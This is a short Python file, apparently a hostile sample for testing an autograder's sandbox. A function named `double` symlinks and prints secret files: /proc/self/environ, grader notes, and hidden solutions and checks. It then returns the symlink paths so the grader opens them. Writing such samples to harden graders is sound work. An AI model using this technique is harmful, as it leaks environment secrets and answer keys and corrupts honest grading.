"""Makes symbolic links to secret files in its working folder, reads through them, and hands back their paths for the grader to open."""
# bites: secret
import glob
import os

SECRETS = [
    *("/tmp/hostile-secret.txt", "/srv/grader/notes.txt", "/dev/shm/hostile-secret", "/proc/self/environ"),
    "/tmp/hostile/course/solutions/lab01_hostile.py",
    "/tmp/hostile/course/autograder/checks/hidden/check_lab01_hostile.py",
]


def double(x):
    paths = []
    for number, target in enumerate(SECRETS):
        path = os.path.abspath(f"result-{number}.npy")
        if not os.path.lexists(path):
            os.symlink(target, path)
        paths.append(path)
    os.makedirs("all", exist_ok=True)
    if not os.path.lexists("all/course"):
        os.symlink("/tmp/hostile/course", "all/course")
    for path in [*paths, *glob.glob("all/course/*/*.py")]:
        try:
            print(open(path).read())
        except OSError:
            pass
    return paths
